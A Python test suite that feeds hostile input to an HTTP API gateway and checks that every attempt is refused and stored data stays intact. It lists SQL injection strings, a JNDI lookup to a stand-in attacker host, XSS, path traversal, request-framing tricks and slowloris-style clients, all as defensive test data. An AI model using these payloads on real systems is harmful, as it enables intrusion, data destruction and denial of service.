"""Issue 4 end to end: hostile input through the real gateway. Every attempt gets a 4xx (or, for the
slow and the oversized, a closed connection); afterwards the node is healthy and a control speaker's
data is exactly what it was."""
import http.client
import select
import socket
import time
import unittest
import urllib.parse

from sbm_node import Node, psql

INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE speakers.speakers; --",
    "\") OR 1=1 --",
    "1; SELECT pg_sleep(5)",
    "' UNION SELECT id, role FROM users.users --",
    "%' OR 1=1 --",
    "admin'--",
    "*)(uid=*))(|(uid=*",
    "{\"$gt\": \"\"}",
    "$where: 1==1",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "\\x27 OR 1=1",
    "..\\..\\windows\\win.ini",
    "ö' OR 'ä'='ä",
]

BODY_LIMIT = 65536
HEADER_LIMIT = 4096
READ_TIMEOUT_S = 3


def status_of(response):
    """The status of a raw HTTP response, or None when the server closed without answering."""
    if not response.startswith(b"HTTP/1."):
        return None
    return int(response.split(b" ", 2)[1])


class Hostile(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.node = Node(extra_flags=[f"--gateway.body-limit={BODY_LIMIT}",
                                     f"--gateway.max-header-bytes={HEADER_LIMIT}",
                                     "--gateway.max-header-count=50",
                                     f"--gateway.read-timeout={READ_TIMEOUT_S}s",
                                     # the rate limit has its own test; here it would only add 429s
                                     "--gateway.rate-limit=0"])
        cls.admin = cls.node.token("admin")
        cls.lead = cls.node.token("qa_lead")
        r = cls.node.request("POST", "/v1/speakers",
                             {"speaker_id": "control", "client_id": "control-client", "display_name": "Control"},
                             token=cls.admin)
        assert r.status == 201, r
        for rate in (1.0, 2.5, 4.0):
            r = cls.node.request("POST", "/v1/speakers/control/quality-samples",
                                 {"job_id": f"job-{rate}", "errors_per_100_words": rate}, token=cls.admin)
            assert r.status == 201, r
        r = cls.node.request("PUT", "/v1/speakers/control/bucket-pin",
                             {"bucket": "medium_touch", "reason": "control pin"}, token=cls.lead)
        assert r.status == 200, r
        cls.control = cls.snapshot()
        cls.speaker_count = cls.count("speakers.speakers")

    @classmethod
    def tearDownClass(cls):
        try:
            assert cls.node.get("/healthz").status == 200
            assert cls.snapshot() == cls.control, "the control speaker changed"
        finally:
            cls.node.stop()

    @classmethod
    def snapshot(cls):
        view = cls.node.request("GET", "/v1/speakers/control", token=cls.admin)
        history = cls.node.request("GET", "/v1/speakers/control/bucket-history", token=cls.admin)
        assert view.status == 200 and history.status == 200, (view, history)
        return view.json(), history.json()

    @classmethod
    def count(cls, table):
        return int(psql(cls.node.database_url, f"SELECT count(*) FROM {table}"))

    def setUp(self):
        self.created = 0

    def tearDown(self):
        # after every test: alive, and the control speaker is exactly as it was
        self.assertEqual(self.node.get("/healthz").status, 200)
        self.assertEqual(self.snapshot(), self.control)

    def raw(self, data, timeout=10, read=True):
        chunks = []
        with socket.create_connection(("127.0.0.1", self.node.port), timeout=timeout) as s:
            try:
                s.sendall(data)
            except (BrokenPipeError, ConnectionResetError):
                pass
            if read:
                try:
                    while True:
                        b = s.recv(65536)
                        if not b:
                            break
                        chunks.append(b)
                except (ConnectionResetError, socket.timeout):
                    pass
        return b"".join(chunks)

    def raw_request(self, method, path, body=b"", token=None, extra=b""):
        head = method.encode() + b" " + path + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        if token:
            head += b"Authorization: Bearer " + token.encode() + b"\r\n"
        if body:
            head += b"Content-Type: application/json\r\nContent-Length: " + str(len(body)).encode() + b"\r\n"
        return self.raw(head + extra + b"\r\n" + body)

    def assert_4xx(self, r, what):
        self.assertTrue(400 <= r.status < 500, f"{what}: {r}")
        if r.body:
            self.assertEqual(r.header("content-type"), "application/problem+json", what)
            self.assertEqual(r.json()["status"], r.status)

    def assert_4xx_raw(self, response, what, allow_close=False):
        status = status_of(response)
        if status is None and allow_close:
            return
        self.assertIsNotNone(status, f"{what}: no HTTP answer: {response[:200]!r}")
        self.assertTrue(400 <= status < 500, f"{what}: {response[:300]!r}")

    # --- malformed and mistyped JSON ----------------------------------------------------------

    def json_targets(self):
        return [("POST", "/v1/speakers"), ("PUT", "/v1/speakers/control/bucket-pin"),
                ("POST", "/v1/speakers/control/quality-samples"), ("POST", "/v1/users"),
                ("PATCH", "/v1/users/user-admin")]

    def test_malformed_json(self):
        bodies = [b"{", b"}", b"{\"speaker_id\": }", b"{\"speaker_id\": \"a\",}", b"[1, 2]", b"\"text\"",
                  b"null", b"42", b"{} trailing", b"{\"a\": tru}", b"{'single': 'quotes'}",
                  b"{\"a\": NaN}", b"{\"a\": Infinity}", b"{\"a\": -Infinity}", b"{\"a\": 0x10}",
                  b"{\"a\": 01}", b"{\"a\": \"\\x41\"}", b"{\"a\": \"\\u12\"}", b"\xef\xbb\xbf{}", b" ",
                  b"{\"a\":\"unterminated}", b"{\"a\" \"b\"}", b"{,}", b"/* comment */ {}"]
        for method, path in self.json_targets():
            for body in bodies:
                with self.subTest(method=method, path=path, body=body):
                    r = self.node.request(method, path, raw_body=body, token=self.admin,
                                          headers={"Content-Type": "application/json"})
                    self.assert_4xx(r, body)

    def test_wrong_types(self):
        cases = [
            ("POST", "/v1/speakers", {"speaker_id": 5, "client_id": "c"}),
            ("POST", "/v1/speakers", {"speaker_id": ["a"], "client_id": "c"}),
            ("POST", "/v1/speakers", {"speaker_id": {"$ne": None}, "client_id": "c"}),
            ("POST", "/v1/speakers", {"speaker_id": True, "client_id": "c"}),
            ("POST", "/v1/speakers", {"speaker_id": None, "client_id": "c"}),
            ("POST", "/v1/speakers", {"speaker_id": "ok-id", "client_id": "c", "display_name": 12}),
            ("PUT", "/v1/speakers/control/bucket-pin", {"bucket": 1, "reason": "r"}),
            ("PUT", "/v1/speakers/control/bucket-pin", {"bucket": "no_touch", "reason": {"a": 1}}),
            ("PUT", "/v1/speakers/control/bucket-pin", {"bucket": "NO_TOUCH", "reason": "r"}),
            ("POST", "/v1/speakers/control/quality-samples", {"job_id": "j", "errors_per_100_words": "3"}),
            ("POST", "/v1/speakers/control/quality-samples", {"job_id": "j", "errors_per_100_words": True}),
            ("POST", "/v1/speakers/control/quality-samples", {"job_id": "j", "errors_per_100_words": [3]}),
            ("POST", "/v1/speakers/control/quality-samples", {"job_id": 3, "errors_per_100_words": 3}),
            ("POST", "/v1/speakers/control/quality-samples", {"job_id": "j", "errors_per_100_words": -1}),
            ("POST", "/v1/users", {"id": "u", "role": ["admin"]}),
            ("POST", "/v1/users", {"id": "u", "role": "qa", "disabled": "true"}),
            ("PATCH", "/v1/users/user-admin", {"disabled": 0}),
        ]
        for method, path, body in cases:
            with self.subTest(method=method, body=body):
                self.assert_4xx(self.node.request(method, path, body, token=self.admin), body)

    def test_huge_numbers(self):
        for number in (b"1e400", b"-1e400", b"1180591620717411303424", b"-1180591620717411303424",
                       b"1e308", b"123456789012345678901234567890.5", b"1" * 5000, b"0." + b"0" * 5000 + b"1e99999"):
            with self.subTest(number=number[:40]):
                body = b'{"job_id": "huge", "errors_per_100_words": ' + number + b"}"
                r = self.node.request("POST", "/v1/speakers/control/quality-samples", raw_body=body,
                                      token=self.admin, headers={"Content-Type": "application/json"})
                self.assert_4xx(r, number[:40])
        for query in ("limit=1e400", "limit=1180591620717411303424", "limit=-1", "limit=99999999999999999999",
                      "limit=0x10", "limit=%201"):
            with self.subTest(query=query):
                self.assert_4xx(self.node.request("GET", "/v1/speakers?" + query, token=self.admin), query)
                self.assert_4xx(self.node.request("GET", "/v1/audit?" + query, token=self.admin), query)
        for cursor in ("1180591620717411303424", "9223372036854775808", "1e3"):
            self.assert_4xx(self.node.request("GET", "/v1/audit?cursor=" + cursor, token=self.admin), cursor)

    def test_deeply_nested_json(self):
        for depth in (33, 1000, 100000):
            for opener, closer in ((b"[", b"]"), (b'{"a":', b"}")):
                with self.subTest(depth=depth, kind=opener):
                    nested = opener * depth + b"1" + closer * depth
                    body = b'{"speaker_id": "deep", "client_id": "c", "display_name": ' + nested + b"}"
                    if len(body) > BODY_LIMIT:
                        body = body[:BODY_LIMIT - 1]
                    r = self.node.request("POST", "/v1/speakers", raw_body=body, token=self.admin,
                                          headers={"Content-Type": "application/json"})
                    self.assert_4xx(r, depth)
        # unclosed nesting, as deep as the body limit allows
        r = self.node.request("POST", "/v1/speakers", raw_body=b"[" * (BODY_LIMIT - 10), token=self.admin,
                              headers={"Content-Type": "application/json"})
        self.assert_4xx(r, "unclosed")

    # --- bytes that are not what they claim -----------------------------------------------------

    def test_invalid_utf8(self):
        for bad in (b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"a\x80b",
                    b"\xf8\x88\x80\x80\x80"):
            with self.subTest(bytes=bad):
                body = b'{"speaker_id": "utf-' + bad + b'", "client_id": "c"}'
                r = self.node.request("POST", "/v1/speakers", raw_body=body, token=self.admin,
                                      headers={"Content-Type": "application/json"})
                self.assert_4xx(r, bad)
                body = b'{"bucket": "no_touch", "reason": "' + bad + b'"}'
                r = self.node.request("PUT", "/v1/speakers/control/bucket-pin", raw_body=body, token=self.lead,
                                      headers={"Content-Type": "application/json"})
                self.assert_4xx(r, bad)
                encoded = urllib.parse.quote_from_bytes(bad)
                self.assert_4xx(self.node.request("GET", "/v1/speakers/" + encoded, token=self.admin), bad)
                self.assert_4xx(self.node.request("GET", "/v1/speakers?client_id=" + encoded, token=self.admin), bad)
                self.assert_4xx(self.node.request("GET", "/v1/audit?actor=" + encoded, token=self.admin), bad)
                # raw, unencoded bytes in the request line
                self.assert_4xx_raw(self.raw_request("GET", b"/v1/speakers/" + bad, token=self.admin), bad,
                                    allow_close=True)

    def test_nul_bytes(self):
        for field in ("speaker_id", "client_id", "display_name"):
            with self.subTest(field=field):
                body = {"speaker_id": "nul-test", "client_id": "c", "display_name": "n"}
                body[field] = "before\u0000after"
                self.assert_4xx(self.node.request("POST", "/v1/speakers", body, token=self.admin), field)
        self.assert_4xx(self.node.request("PUT", "/v1/speakers/control/bucket-pin",
                                          {"bucket": "no_touch", "reason": "a\u0000b"}, token=self.lead), "reason")
        self.assert_4xx(self.node.request("POST", "/v1/users", {"id": "nul\u0000user", "role": "qa"},
                                          token=self.admin), "user id")
        self.assert_4xx(self.node.request("POST", "/v1/users", {"id": "nul-user", "role": "qa",
                                                                "display_name": "a\u0000"}, token=self.admin), "name")
        for path in ("/v1/speakers/control%00", "/v1/speakers?client_id=a%00b", "/v1/audit?actor=a%00b",
                     "/v1/speakers/control/bucket-pin?reason=a%00b", "/v1/users/a%00b"):
            with self.subTest(path=path):
                method = "DELETE" if "bucket-pin" in path else "GET"
                self.assert_4xx(self.node.request(method, path, token=self.admin), path)
        # a raw NUL inside a JSON string is not JSON
        r = self.node.request("POST", "/v1/speakers", raw_body=b'{"speaker_id": "a\x00b", "client_id": "c"}',
                              token=self.admin, headers={"Content-Type": "application/json"})
        self.assert_4xx(r, "raw NUL")
        self.assert_4xx_raw(self.raw_request("GET", b"/v1/speakers/a\x00b", token=self.admin), "raw NUL path",
                            allow_close=True)

    def test_path_traversal_in_ids(self):
        for path in ("/v1/speakers/..%2F..%2Fetc%2Fpasswd", "/v1/speakers/%2e%2e%2f%2e%2e%2fusers",
                     "/v1/speakers/..%2f", "/v1/speakers/../../etc/passwd", "/v1/speakers/..",
                     "/v1/speakers/%2e%2e", "/v1/speakers/control/..%2F..%2Fusers",
                     "/v1/users/..%2Fuser-admin", "/v1/speakers/%252e%252e%252f", "/v1/speakers/%",
                     "/v1/speakers/%zz", "/v1/speakers/control/../../users/user-admin"):
            with self.subTest(path=path):
                self.assert_4xx(self.node.request("GET", path, token=self.admin), path)
        for sid in ("../../etc/passwd", "..%2F..%2Fetc", "/absolute", "a/b"):
            with self.subTest(speaker_id=sid):
                r = self.node.request("POST", "/v1/speakers", {"speaker_id": sid, "client_id": "c"}, token=self.admin)
                if sid == "..%2F..%2Fetc":
                    # no '/', so a legal id: stored as the literal text, never decoded again
                    self.assertEqual(r.status, 201, r)
                    self.created += 1
                    got = self.node.request("GET", "/v1/speakers/" + urllib.parse.quote(sid, safe=""), token=self.admin)
                    self.assertEqual(got.json()["speaker_id"], sid)
                else:
                    self.assert_4xx(r, sid)
        self.assert_4xx(self.node.request("POST", "/v1/users", {"id": "../admin", "role": "admin"}, token=self.admin),
                        "user id")

    # --- injection strings in every text field and filter ---------------------------------------

    def test_injection_strings_are_only_ever_data(self):
        speakers_before = self.count("speakers.speakers")
        users_before = self.count("users.users")
        for i, text in enumerate(INJECTIONS):
            with self.subTest(text=text):
                started = time.time()
                as_id = text.replace("/", "|")  # ids refuse '/'; every other byte of it stays
                sid = f"inj-{i}-" + as_id
                client = f"client-{i}-" + as_id
                r = self.node.request("POST", "/v1/speakers",
                                      {"speaker_id": sid, "client_id": client, "display_name": text}, token=self.admin)
                self.assertEqual(r.status, 201, r)
                body = r.json()
                self.assertEqual((body["speaker_id"], body["client_id"], body["display_name"]), (sid, client, text))
                quoted = urllib.parse.quote(sid, safe="")
                got = self.node.request("GET", "/v1/speakers/" + quoted, token=self.admin)
                self.assertEqual(got.status, 200, got)
                self.assertEqual(got.json()["display_name"], text)
                r = self.node.request("PUT", f"/v1/speakers/{quoted}/bucket-pin",
                                      {"bucket": "low_touch", "reason": text}, token=self.lead)
                self.assertEqual(r.status, 200, r)
                self.assertEqual(r.json()["pin"]["reason"], text)
                r = self.node.request("DELETE", f"/v1/speakers/{quoted}/bucket-pin?reason=" +
                                      urllib.parse.quote(text, safe=""), token=self.lead)
                self.assertEqual(r.status, 200, r)
                r = self.node.request("POST", f"/v1/speakers/{quoted}/quality-samples",
                                      {"job_id": "job-" + as_id, "errors_per_100_words": 1.0}, token=self.admin)
                self.assertEqual(r.status, 201, r)
                reasons = [e["reason"] for e in self.node.request(
                    "GET", f"/v1/speakers/{quoted}/bucket-history", token=self.admin).json()["entries"]]
                self.assertIn(text, reasons)
                # filters: an exact value that matches only what was stored under it
                listed = self.node.request("GET", "/v1/speakers?client_id=" + urllib.parse.quote(client, safe=""),
                                           token=self.admin)
                self.assertEqual(listed.status, 200, listed)
                self.assertEqual([s["speaker_id"] for s in listed.json()["items"]], [sid])
                listed = self.node.request("GET", "/v1/speakers?client_id=" + urllib.parse.quote(as_id, safe=""),
                                           token=self.admin)
                self.assertEqual(listed.status, 200, listed)
                self.assertEqual(listed.json()["items"], [])
                self.assert_4xx(self.node.request("GET", "/v1/speakers?bucket=" + urllib.parse.quote(text, safe=""),
                                                  token=self.admin), "bucket filter")
                r = self.node.request("GET", "/v1/speakers?cursor=" + urllib.parse.quote(text, safe=""), token=self.admin)
                self.assertIn(r.status, (200, 400), r)
                r = self.node.request("GET", "/v1/verification-schedule?speaker_id=" +
                                      urllib.parse.quote(as_id, safe=""), token=self.admin)
                self.assertEqual(r.status, 200, r)
                self.assertEqual(r.json()["items"], [])
                self.assert_4xx(self.node.request("GET", "/v1/verification-schedule?priority=" +
                                                  urllib.parse.quote(text, safe=""), token=self.admin), "priority")
                for name in ("actor", "action"):
                    r = self.node.request("GET", f"/v1/audit?{name}=" + urllib.parse.quote(text, safe=""),
                                          token=self.admin)
                    self.assertEqual(r.status, 200, r)
                    self.assertEqual(r.json()["items"], [])
                uid = f"user-{i}-" + as_id
                r = self.node.request("POST", "/v1/users", {"id": uid, "role": "qa", "display_name": text},
                                      token=self.admin)
                self.assertEqual(r.status, 201, r)
                got = self.node.request("GET", "/v1/users/" + urllib.parse.quote(uid, safe=""), token=self.admin)
                self.assertEqual((got.json()["id"], got.json()["display_name"]), (uid, text))
                r = self.node.request("PATCH", "/v1/users/" + urllib.parse.quote(uid, safe=""),
                                      {"display_name": text + text}, token=self.admin)
                self.assertEqual(r.status, 200, r)
                self.assertEqual(r.json()["display_name"], text + text)
                self.assertLess(time.time() - started, 5, "an injected pg_sleep ran?")
        self.assertEqual(self.count("speakers.speakers"), speakers_before + len(INJECTIONS))
        self.assertEqual(self.count("users.users"), users_before + len(INJECTIONS))
        # the audit filter matches the stored actor exactly, quotes and all
        r = self.node.request("GET", "/v1/audit?action=user.create&limit=500", token=self.admin)
        targets = {e["target"] for e in r.json()["items"]}
        for i, text in enumerate(INJECTIONS):
            self.assertIn(f"user-{i}-" + text.replace("/", "|"), targets)

    # --- one reading of a request: what a proxy in front sees is what SBM sees (issue 21) ------

    def test_duplicate_json_keys_are_refused_naming_the_key(self):
        bodies = [
            ("POST", "/v1/speakers", b'{"speaker_id": "dup-a", "speaker_id": "dup-b", "client_id": "c"}',
             "speaker_id", self.admin),
            ("PUT", "/v1/speakers/control/bucket-pin",
             b'{"bucket": "no_touch", "reason": "r", "bucket": "high_touch"}', "bucket", self.lead),
            ("POST", "/v1/patterns/search",
             b'{"query_text": "q", "filters": {"speaker_id": "a", "speaker_id": "b"}}', "speaker_id", self.admin),
            ("POST", "/v1/users", b'{"id": "dup-user", "role": "qa", "role": "admin"}', "role", self.admin),
        ]
        for method, path, body, key, token in bodies:
            with self.subTest(path=path):
                r = self.node.request(method, path, raw_body=body, token=token,
                                      headers={"Content-Type": "application/json"})
                self.assertEqual(r.status, 400, r)
                self.assertIn(f"duplicate key '{key}'", r.json()["detail"])
        self.assertEqual(self.node.request("GET", "/v1/speakers/dup-b", token=self.admin).status, 404)
        self.assertEqual(self.node.request("GET", "/v1/users/dup-user", token=self.admin).status, 404)

    def test_every_query_refuses_repeated_unknown_and_empty_parameters_naming_them(self):
        # One reader serves every route that takes a query: which of two values counts is a
        # question a proxy and SBM could answer differently, so a repeat is refused everywhere.
        reads = [("GET", "/v1/speakers", "limit=1", "limit"),
                 ("GET", "/v1/verification-schedule", "priority=high", "priority"),
                 ("GET", "/v1/speakers/control/jobs", "from=2026-01-01&to=2026-02-01", "from"),
                 ("GET", "/v1/error-reports", "status=pending", "status"),
                 ("GET", "/v1/audit", "action=user.create", "action"),
                 ("DELETE", "/v1/speakers/control/bucket-pin", "reason=r", "reason")]
        for method, path, query, name in reads:
            first = query.split("&")[0]
            for bad, why in ((f"{query}&{first}", "more than once"), (f"{query}&{name}x=1", "not a known"),
                             (query.replace(first, name + "="), "empty")):
                with self.subTest(path=path, query=bad):
                    r = self.node.request(method, f"{path}?{bad}", token=self.admin)
                    self.assertEqual(r.status, 400, r)
                    self.assertEqual(r.json()["type"], "urn:sbm:problem:invalid-query", r)
                    self.assertEqual(r.json()["field"], name + ("x" if why == "not a known" else ""), r)
                    self.assertIn(why, r.json()["detail"], r)

    def test_every_body_refuses_an_unknown_field_naming_it(self):
        # Speakers' bodies used to drop unknown fields silently; now every body reader refuses them.
        writes = [("POST", "/v1/speakers", {"speaker_id": "unk-1", "client_id": "c"}),
                  ("PUT", "/v1/speakers/control/bucket-pin", {"bucket": "low_touch", "reason": "r"}),
                  ("POST", "/v1/speakers/control/quality-samples", {"job_id": "unk", "errors_per_100_words": 1}),
                  ("POST", "/v1/users", {"id": "unk-user", "role": "qa"}),
                  ("PATCH", "/v1/users/user-admin", {"display_name": "x"}),
                  ("PATCH", "/v1/error-reports/1", {"status": "rectified"}),
                  ("POST", "/v1/patterns/search", {"query_text": "hypertension"}),
                  ("POST", "/v1/drafts/correct", {"speaker_id": "control", "draft_text": "x"})]
        for method, path, body in writes:
            with self.subTest(path=path):
                r = self.node.request(method, path, dict(body, displayname="typo"), token=self.admin)
                self.assertEqual(r.status, 400, r)
                self.assertEqual((r.json()["type"], r.json()["field"]),
                                 ("urn:sbm:problem:unknown-field", "displayname"), r)
        r = self.node.request("POST", "/v1/patterns/search",
                              {"query_text": "hypertension", "filters": {"bucket": "no_touch"}}, token=self.admin)
        self.assertEqual((r.status, r.json()["field"]), (400, "filters.bucket"), r)

    def test_a_byte_order_mark_is_refused(self):
        r = self.node.request("POST", "/v1/speakers", raw_body=b'\xef\xbb\xbf{"speaker_id": "bom", "client_id": "c"}',
                              token=self.admin, headers={"Content-Type": "application/json"})
        self.assertEqual(r.status, 400, r)
        self.assertIn("byte order mark", r.json()["detail"])

    def test_a_body_must_be_declared_json(self):
        body = b'{"speaker_id": "ctype", "client_id": "c"}'
        for content_type in ("text/plain", "application/x-www-form-urlencoded", "application/json-patch+json",
                             "application/json; charset=latin1", "multipart/form-data; boundary=x", None):
            with self.subTest(content_type=content_type):
                r = self.node.request("POST", "/v1/speakers", raw_body=body, token=self.admin,
                                      headers={"Content-Type": content_type} if content_type else {})
                self.assertEqual(r.status, 415, r)
                self.assertEqual(r.header("content-type"), "application/problem+json")
        self.assertEqual(self.node.request("GET", "/v1/speakers/ctype", token=self.admin).status, 404)
        # a GET carrying a body is held to the same rule
        r = self.node.request("GET", "/v1/speakers/control", raw_body=b"{}", token=self.admin,
                              headers={"Content-Type": "text/plain"})
        self.assertEqual(r.status, 415, r)
        for content_type in ("application/json; charset=utf-8", "Application/JSON"):
            with self.subTest(content_type=content_type):
                sid = "ctype-" + str(len(content_type))
                r = self.node.request("POST", "/v1/speakers", raw_body=body.replace(b"ctype", sid.encode()),
                                      token=self.admin, headers={"Content-Type": content_type})
                self.assertEqual(r.status, 201, r)
                self.created += 1

    def test_ambiguous_framing_is_refused_with_400(self):
        auth = b"Authorization: Bearer " + self.admin.encode() + b"\r\n"
        cases = {
            "no version": b"GET /healthz\r\n\r\n",
            "no Host in HTTP/1.1": b"GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n",
            "two Hosts": b"GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
            "two Authorizations": b"GET /v1/speakers/control HTTP/1.1\r\nHost: x\r\n" + auth +
                                  b"Authorization: Bearer other\r\nConnection: close\r\n\r\n",
            "two Content-Types": b"POST /v1/speakers HTTP/1.1\r\nHost: x\r\n" + auth +
                                 b"Content-Type: application/json\r\nContent-Type: text/plain\r\n"
                                 b"Content-Length: 2\r\nConnection: close\r\n\r\n{}",
        }
        for what, data in cases.items():
            with self.subTest(what=what):
                response = self.raw(data)
                self.assertEqual(status_of(response), 400, response[:300])
                self.assertIn(b"application/problem+json", response)
        # HTTP/1.0 needs no Host
        response = self.raw(b"GET /healthz HTTP/1.0\r\n\r\n")
        self.assertEqual(status_of(response), 200, response[:300])

    def test_folded_headers_are_refused(self):
        for folded in (b"X-A: one\r\n two\r\n", b"X-A: one\r\n\ttwo\r\n",
                       b"Authorization: Bearer\r\n " + self.admin.encode() + b"\r\n"):
            with self.subTest(folded=folded[:20]):
                response = self.raw(b"GET /v1/speakers/control HTTP/1.1\r\nHost: x\r\n" + folded +
                                    b"Connection: close\r\n\r\n")
                self.assertEqual(status_of(response), 400, response[:300])
                self.assertIn(b"obs-fold", response)
        # a value that merely contains spaces and tabs is not a fold
        response = self.raw(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: one two\tthree\r\n"
                            b"Connection: close\r\n\r\n")
        self.assertEqual(status_of(response), 200, response[:300])

    def send_head(self, head, timeout=10):
        """Sends only a request's head and returns (socket, the first answer's head, the rest)."""
        s = socket.create_connection(("127.0.0.1", self.node.port), timeout=timeout)
        s.sendall(head)
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        first, _, rest = data.partition(b"\r\n\r\n")
        return s, first, rest

    def test_expect_100_continue_is_answered_before_the_body(self):
        body = b'{"speaker_id": "expect-ok", "client_id": "c"}'
        head = (b"POST /v1/speakers HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                b"Authorization: Bearer " + self.admin.encode() + b"\r\nExpect: 100-continue\r\n"
                b"Connection: close\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n")
        s, first, rest = self.send_head(head)
        with s:
            self.assertEqual(first, b"HTTP/1.1 100 Continue")
            s.sendall(body)
            final = rest
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                final += chunk
        self.assertEqual(status_of(final), 201, final[:300])
        self.created += 1

    def test_expect_100_continue_gets_the_final_refusal_before_the_body(self):
        body_head = b"Content-Length: 50000\r\nExpect: 100-continue\r\n\r\n"
        auth = b"Authorization: Bearer " + self.admin.encode() + b"\r\n"
        cases = {
            "no token": (b"Content-Type: application/json\r\n", 401),
            "bad token": (b"Content-Type: application/json\r\nAuthorization: Bearer x.y.z\r\n", 401),
            "not JSON": (b"Content-Type: text/plain\r\n" + auth, 415),
            "too large": (b"Content-Type: application/json\r\n" + auth, 413),
            "unknown expectation": (b"Content-Type: application/json\r\n" + auth, 417),
        }
        for what, (headers, status) in cases.items():
            with self.subTest(what=what):
                tail = body_head
                if what == "too large":
                    tail = tail.replace(b"50000", str(BODY_LIMIT + 1).encode())
                if what == "unknown expectation":
                    tail = tail.replace(b"100-continue", b"200-ok")
                s, first, _ = self.send_head(b"POST /v1/speakers HTTP/1.1\r\nHost: x\r\n" + headers + tail)
                with s:
                    self.assertEqual(status_of(first + b"\r\n"), status, first)
                    self.assertIn(b"connection: close", first.lower())

    def responses(self, data):
        """Splits what a keep-alive connection returned into (status, headers, body) triples, reading
        a body only where the request was not HEAD; what is left over is returned last."""
        out = []
        rest = data
        while rest.startswith(b"HTTP/1."):
            head, _, rest = rest.partition(b"\r\n\r\n")
            lines = head.split(b"\r\n")
            headers = {}
            for line in lines[1:]:
                name, _, value = line.partition(b":")
                headers[name.strip().lower().decode()] = value.strip().decode()
            out.append((int(lines[0].split(b" ")[1]), headers))
        return out, rest

    def test_head_is_get_without_the_body(self):
        get = self.node.request("GET", "/v1/speakers/control", token=self.admin)
        auth = b"Authorization: Bearer " + self.admin.encode() + b"\r\n"
        pipeline = b"".join(b"HEAD " + path + b" HTTP/1.1\r\nHost: x\r\n" + auth + b"\r\n"
                            for path in (b"/v1/speakers/control", b"/v1/patterns/search", b"/no/such/path",
                                         b"/healthz"))
        # one more request on the same connection: if any HEAD answer carried a body, this one's
        # status line would not be where the client looks for it
        pipeline += b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        answers, rest = self.responses(self.raw(pipeline))
        self.assertEqual([a[0] for a in answers], [200, 405, 404, 200, 200], answers)
        head_ok = answers[0][1]
        self.assertEqual(int(head_ok["content-length"]), len(get.body.encode()))
        self.assertEqual(head_ok["content-type"], "application/json")
        self.assertEqual(answers[1][1]["allow"], "POST")
        self.assertEqual(rest, b'{"status":"alive"}')

    # --- sizes -------------------------------------------------------------------------------

    def test_oversized_bodies(self):
        for size in (BODY_LIMIT + 1, BODY_LIMIT * 3):
            with self.subTest(size=size):
                body = b'{"speaker_id": "big", "client_id": "c", "display_name": "' + b"x" * size + b'"}'
                r = self.node.request("POST", "/v1/speakers", raw_body=body, token=self.admin,
                                      headers={"Content-Type": "application/json"})
                self.assertEqual(r.status, 413, r)
        # far beyond: RESTinio drops the connection instead of buffering it
        body = b"x" * (BODY_LIMIT * 6)
        response = self.raw_request("POST", b"/v1/speakers", body=body, token=self.admin)
        self.assert_4xx_raw(response, "huge body", allow_close=True)
        # a declared length far beyond the limit, with no body following
        response = self.raw(b"POST /v1/speakers HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n"
                            b"Authorization: Bearer " + self.admin.encode() + b"\r\n\r\n{}", timeout=15)
        self.assert_4xx_raw(response, "declared length", allow_close=True)

    def test_oversized_headers_and_url(self):
        big = b"y" * (HEADER_LIMIT * 2)
        cases = {
            "header value": self.raw_request("GET", b"/v1/speakers", token=self.admin, extra=b"X-Big: " + big + b"\r\n"),
            "url": self.raw_request("GET", b"/v1/speakers?client_id=" + big, token=self.admin),
            "header name": self.raw_request("GET", b"/v1/speakers", token=self.admin, extra=b"X-" + big + b": 1\r\n"),
            "many headers": self.raw_request("GET", b"/v1/speakers", token=self.admin,
                                             extra=b"".join(b"X-H%d: v\r\n" % i for i in range(200))),
            "huge token": self.raw_request("GET", b"/v1/speakers", token="a" * (HEADER_LIMIT - 100)),
        }
        for what, response in cases.items():
            with self.subTest(what=what):
                self.assert_4xx_raw(response, what, allow_close=True)
        # just under the limits is fine
        ok = self.raw_request("GET", b"/v1/speakers?limit=1", token=self.admin, extra=b"X-Ok: " + b"z" * 1000 + b"\r\n")
        self.assertEqual(status_of(ok), 200, ok[:300])

    def test_garbage_instead_of_http(self):
        for data in (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64, b"GET\r\n\r\n",
                     b"GARBAGE / HTTP/1.1\r\n\r\n", b"GET / HTTP/9.9\r\nHost: x\r\n\r\n",
                     b"\r\n" * 1000, b"GET /v1/speakers HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
                     b"GET /v1/speakers HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
                     b"GET /v1/speakers HTTP/1.1\r\nHost: x\r\nBad Header\r\n\r\n"):
            with self.subTest(data=data[:30]):
                self.assert_4xx_raw(self.raw(data, timeout=READ_TIMEOUT_S + 5), data[:30], allow_close=True)

    # --- slow clients ----------------------------------------------------------------------------

    def slow_client(self, prefix, trickle):
        """Sends `prefix`, then one byte of `trickle` per second; returns (seconds until the server
        closed the connection, whether it answered 4xx instead)."""
        started = time.time()
        with socket.create_connection(("127.0.0.1", self.node.port), timeout=3 * READ_TIMEOUT_S) as s:
            s.sendall(prefix)
            s.settimeout(1.0)
            for byte in trickle:
                try:
                    s.sendall(bytes([byte]))
                except (BrokenPipeError, ConnectionResetError):
                    return time.time() - started, None
                try:
                    data = s.recv(4096)
                except socket.timeout:
                    data = None
                except ConnectionResetError:
                    data = b""
                if data is not None:
                    return time.time() - started, status_of(data)
                if time.time() - started > 4 * READ_TIMEOUT_S:
                    break
        self.fail(f"the server kept a slow client for {time.time() - started:.1f} s")

    def test_slowloris_headers_are_cut_off(self):
